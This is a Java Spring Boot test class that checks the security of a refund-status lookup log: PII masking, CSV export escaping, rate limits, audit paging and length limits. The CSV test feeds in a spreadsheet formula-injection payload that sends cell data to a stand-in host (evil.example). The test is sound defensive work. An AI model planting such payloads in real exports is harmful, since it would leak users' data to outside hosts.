package jp.refund.status;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.time.Duration;
import java.util.List;
import jp.refund.NightlyHarness;
import jp.refund.SampleDatabase;
import jp.refund.staff.StaffTesting;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.context.annotation.Import;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.servlet.MockMvc;

/**
 * The lookup log under attack: a phone typed as a member id, a formula typed as a query, a
 * flood of refused requests, an over-long query, a user who asks all day.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.MOCK)
@AutoConfigureMockMvc
@ActiveProfiles("demo")
@Import(StaffTesting.class)
class LookupLogTest {

    @DynamicPropertySource
    static void sampleDatabase(DynamicPropertyRegistry registry) {
        NightlyHarness sample = SampleDatabase.prepared();
        registry.add("spring.datasource.url", sample::jdbcUrl);
        registry.add("spring.main.web-application-type", () -> "servlet");
        registry.add("refund.status.lookups-per-minute", () -> "20");
        registry.add("refund.status.lookups-per-day", () -> "60");
    }

    @Autowired
    MockMvc mvc;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    StaffTesting staff;

    @BeforeEach
    void cleanLog() {
        jdbc.update("DELETE FROM lookup_log");
        jdbc.update("DELETE FROM lookup_refusal");
        staff.clock().advance(Duration.ofDays(1)); // a new day: the daily cap starts again
    }

    private List<String> logged() {
        return jdbc.queryForList("SELECT username || ' ' || query_kind || ' ' || COALESCE(query_value, '-') || ' '"
                + " || outcome FROM lookup_log ORDER BY id", String.class);
    }

    @Test
    void aPhoneTypedAsAMemberIdIsMaskedInTheLog() throws Exception {
        mvc.perform(get("/api/claims").param("memberId", "09012345678").with(staff.token("support")));
        mvc.perform(get("/api/claims").param("applicationId", "1989-05-20").with(staff.token("support")));
        mvc.perform(get("/claims").param("kind", "memberId").param("q", "a.person@example.jp")
                .with(StaffTesting.bothFactors("support")));
        assertThat(logged()).containsExactly(
                "support memberId *******5678 NOT_FOUND",
                "support applicationId ****-**-** NOT_FOUND",
                "support memberId a***@example.jp BAD_REQUEST");
        assertThat(String.join("\n", jdbc.queryForList("SELECT query_value FROM lookup_log", String.class)))
                .doesNotContain("12345678", "1989", "a.person");
    }

    @Test
    void theCsvExportHasNoLiveFormula() throws Exception {
        for (String q : List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1-2", "@SUM(A1)", "-3+4")) {
            mvc.perform(get("/api/claims").param("applicationId", q).with(staff.token("auditor")));
        }
        String csv = mvc.perform(get("/audit/lookups.csv").with(StaffTesting.bothFactors("auditor")))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        for (String line : csv.split("\n")) {
            for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
                String value = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertThat(value).as(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
                        .doesNotStartWith("-");
            }
        }
        assertThat(csv).contains("'=HYPERLINK(", "'+1-2", "'-3+4").doesNotContain("SUM("); // @SUM(A1) has an @: masked
    }

    @Test
    void aFloodOfTenThousandRefusedRequestsLeavesTheEarlierLookupsVisible() throws Exception {
        mvc.perform(get("/api/claims/1000000024").with(staff.token("support"))).andExpect(status().isOk());
        mvc.perform(get("/api/claims").param("memberId", "M0003").with(staff.token("support")))
                .andExpect(status().isOk());
        for (int i = 0; i < 20; i++) { // another user's allowance for the minute
            mvc.perform(get("/api/claims/1000000024").with(staff.token("finance"))).andExpect(status().isOk());
        }
        for (int i = 0; i < 10_000; i++) {
            mvc.perform(get("/api/claims/1000000024").with(staff.token("finance")))
                    .andExpect(status().isTooManyRequests());
        }
        String page = mvc.perform(get("/audit/lookups").with(StaffTesting.bothFactors("auditor")))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM lookup_log", Integer.class)).isEqualTo(22);
        assertThat(jdbc.queryForObject("SELECT SUM(refused) FROM lookup_refusal WHERE username = 'finance'",
                Integer.class)).isEqualTo(10_000);
        assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM lookup_refusal", Integer.class)).isEqualTo(1);
        assertThat(page).contains("M0003", "RATE_LIMITED", "10000");
    }

    @Test
    void theAuditorPagesThroughTheWholeLog() throws Exception {
        for (int i = 0; i < 250; i++) {
            jdbc.update("INSERT INTO lookup_log (looked_at, username, query_kind, query_value, results, outcome)"
                    + " VALUES (CURRENT_TIMESTAMP, 'support', 'memberId', ?, 0, 'NOT_FOUND')", "M" + i);
        }
        List<String> seen = new java.util.ArrayList<>();
        String url = "/audit/lookups";
        for (int pages = 0; url != null && pages < 10; pages++) {
            String html = mvc.perform(get(url).with(StaffTesting.bothFactors("auditor"))).andExpect(status().isOk())
                    .andReturn().getResponse().getContentAsString();
            java.util.regex.Matcher m = java.util.regex.Pattern.compile("<td>(M[0-9]+)</td>").matcher(html);
            while (m.find()) {
                seen.add(m.group(1));
            }
            java.util.regex.Matcher older = java.util.regex.Pattern.compile("href=\"(/audit/lookups\\?before=[0-9]+)\"")
                    .matcher(html);
            url = older.find() ? older.group(1) : null;
        }
        assertThat(seen).hasSize(250).doesNotHaveDuplicates().contains("M0", "M249");
    }

    @Test
    void anOverLongQueryIsABadRequestAndLogged() throws Exception {
        String tooLong = "A".repeat(5000);
        mvc.perform(get("/api/claims").param("applicationId", tooLong).with(staff.token("support")))
                .andExpect(status().isBadRequest()).andExpect(jsonPath("$.message").value("a query has at most 100 characters"));
        mvc.perform(get("/api/claims").param("x".repeat(300), "1").with(staff.token("support")))
                .andExpect(status().isBadRequest());
        mvc.perform(get("/claims").param("kind", "email").param("q", tooLong + "@example.jp")
                .with(StaffTesting.bothFactors("support"))).andExpect(status().isBadRequest());
        assertThat(logged()).containsExactly(
                "support applicationId " + "A".repeat(40) + " TOO_LONG",
                "support invalid " + "x".repeat(40) + " BAD_REQUEST",
                "support email A***@example.jp TOO_LONG");
    }

    @Test
    void theDailyCapRefusesAndIsASecurityEvent() throws Exception {
        for (int i = 0; i < 60; i++) {
            mvc.perform(get("/api/claims/1000000024").with(staff.token("auditor"))).andExpect(status().isOk());
            if (i % 20 == 19) {
                staff.clock().advance(Duration.ofMinutes(1));
            }
        }
        mvc.perform(get("/api/claims/1000000024").with(staff.token("auditor"))).andExpect(status().isTooManyRequests())
                .andExpect(jsonPath("$.message").value("the daily limit of 60 lookups is reached"));
        mvc.perform(get("/api/claims/1000000024").with(staff.token("auditor"))).andExpect(status().isTooManyRequests());
        assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM security_event WHERE event = 'LOOKUP_CAP_REACHED'"
                + " AND username = 'auditor' AND occurred_at >= ?", Integer.class,
                java.time.OffsetDateTime.now(staff.clock()).minusHours(1))).isEqualTo(1);
        mvc.perform(get("/audit/lookups").with(StaffTesting.bothFactors("auditor"))).andExpect(status().isOk());
        assertThat(jdbc.queryForObject("SELECT SUM(refused) FROM lookup_refusal WHERE outcome = 'DAILY_CAP'",
                Integer.class)).isEqualTo(2);
    }
}
